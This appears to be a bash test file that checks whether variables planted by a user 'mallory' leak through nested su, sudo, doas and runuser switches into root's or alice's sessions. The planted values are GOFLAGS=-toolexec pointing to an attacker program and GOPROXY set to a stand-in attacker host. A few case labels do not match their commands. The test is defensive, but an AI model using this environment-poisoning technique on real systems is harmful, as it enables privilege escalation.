# Values of other processes: a stranger's variables reach a session of another user that was started inside his.
#
# mallory sets GOFLAGS=-toolexec=PROGRAM, which makes `go build` run PROGRAM, and then becomes root, or alice, by one
# program and again by another one, which clears the environment. A process of root's below mallory's session still has
# his variables. Expected: `go` in the last session has none of them.
# shellcheck shell=bash disable=SC1003,SC2016,SC2034,SC2154

# VICTIM WAY...: the ways are taken one inside the other.
through() {
    evil /home/mallory/evil
    GIVEN=(GOFLAGS=-toolexec=/home/mallory/evil GOPROXY=https://mallory.example)
    below mallory "${@:2}" -- '/run/bin/reach GOFLAGS; go build'
    control "a process of $1's above has the variable" proof "$1 can reach GOFLAGS"
    control "go ran as $1" proof "$1 ran /usr/bin/go build"
    harm "mallory's program ran as $1" proof "$1 ran evil"
    harm "$1's go has a value of mallory's" proof "$1 has GO[A-Z]*=.*mallory.*"
    # The same program does run where the victim names it.
    : >/run/proof
    as "$1" 'GOFLAGS=-toolexec=/home/mallory/evil go build'
    control 'GOFLAGS makes go run a program' proof "$1 ran evil"
}

attack 'root: su, then su -' through root 'su -c' 'su - -c'
attack 'root: su, then su -, then su -' through root 'su -c' 'su - -c' 'su - -c'
attack 'root: su, then sudo' through root 'su -c' 'sudo'
attack 'root: su, then sudo -i' through root 'su -c' 'sudo -i'
attack 'root: su, then sudo -H, then a shell' through root 'su -c' 'sudo -H' 'bash'
attack 'root: su -p, then su -' through root 'su -p -c' 'su - -c'
attack 'root: exec su, then su -' through root 'exec su -c' 'su - -c'
attack 'root: su, then exec su -' through root 'su -c' 'bash' 'exec su - -c'
attack 'root: sudo -E, then sudo' through root 'sudo -E' 'sudo'
attack 'root: sudo -E, then sudo -i' through root 'sudo -E' 'sudo -i'
attack 'root: sudo -E bash, then su -' through root 'sudo -E bash' 'su - -c'
attack 'root: sudo --preserve-env=GOFLAGS, then sudo -i' through root 'sudo --preserve-env=GOFLAGS' 'sudo -i'
attack 'root: sudo GOFLAGS=…, then sudo' through root 'sudo GOFLAGS=$GOFLAGS' 'sudo'
attack 'root: doas with keepenv, then su -' through root 'doas' 'su - -c'
attack 'root: doas with keepenv, then sudo' through root 'doas' 'sudo'
attack 'root: sudo -E, then doas -u root' through root 'sudo -E' 'env -u GOFLAGS -u GOPROXY bash' 'sudo'
attack 'root: sudo -E, then runuser -l' through root 'sudo -E' 'runuser -l root -c'
attack 'root: sudo -E, then runuser - of root' through root 'sudo -E' 'runuser - root -c'
attack 'root: su, then setsid -f sudo' through root 'su -c' 'setsid -w sudo'
attack 'root: su, setpriv, then sudo' through root 'su -c' 'setpriv --reuid 0' 'sudo'
attack 'root: su, unshare, then sudo' through root 'su -c' 'unshare -m' 'sudo'
attack 'alice: su alice, then su - alice' through alice 'su alice -c' 'su - alice -c'
attack 'alice: su alice, then sudo -u alice' through alice 'su alice -c' 'sudo -u alice'
attack 'alice: su alice, then sudo -iu alice' through alice 'su alice -c' 'sudo -iu alice'
attack 'alice: sudo -Eu alice, then sudo -u alice' through alice 'sudo -Eu alice' 'sudo -u alice'
attack 'alice: sudo -Eu alice bash, then su - alice' through alice 'sudo -Eu alice bash' 'su - alice -c'
attack 'alice: doas -u alice, then sudo -iu alice' through alice 'doas -u alice' 'sudo -iu alice'
attack 'alice: sudo -E, runuser -u alice, then su - alice' through alice 'sudo -E' 'runuser -u alice --' 'su - alice -c'
attack 'alice: exec su alice, then su - alice' through alice 'exec su alice -c' 'su - alice -c'
attack 'alice: su alice, then exec sudo -u alice' through alice 'su alice -c' 'bash' 'exec sudo -u alice'
